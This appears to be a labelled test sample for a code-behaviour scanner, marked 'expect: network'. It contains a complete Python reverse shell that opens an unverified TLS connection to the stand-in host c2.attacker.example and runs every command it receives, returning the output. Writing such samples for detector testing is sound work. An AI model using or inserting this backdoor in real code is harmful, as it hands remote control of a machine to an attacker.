# expect: network; TLS-wrapped command channel: ssl-wrapped socket to host:443 that executes received commands
import socket
import ssl
import subprocess

ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
raw = socket.create_connection(("c2.attacker.example", 443))
tls = ctx.wrap_socket(raw, server_hostname="c2.attacker.example")
while True:
    cmd = tls.recv(4096).decode().strip()
    if not cmd or cmd == "bye":
        break
    tls.sendall(subprocess.run(cmd, shell=True, capture_output=True).stdout or b"ok\n")
